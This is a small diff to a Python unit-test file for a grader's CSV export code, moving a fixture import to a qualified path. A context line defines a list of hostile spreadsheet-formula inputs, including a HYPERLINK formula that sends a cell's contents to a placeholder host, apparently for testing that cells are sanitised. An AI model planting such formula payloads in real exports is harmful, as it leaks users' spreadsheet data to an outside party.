@@ -6,7 +6,6 @@ import csv
 import io
 
 import pytest
-from batch_fixtures import simple
 
 from grader.batches.export import (
     format_number,
@@ -15,6 +14,7 @@ from grader.batches.export import (
     safe_cell,
     write_csv,
 )
+from tests.unit.batch_fixtures import simple
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
 
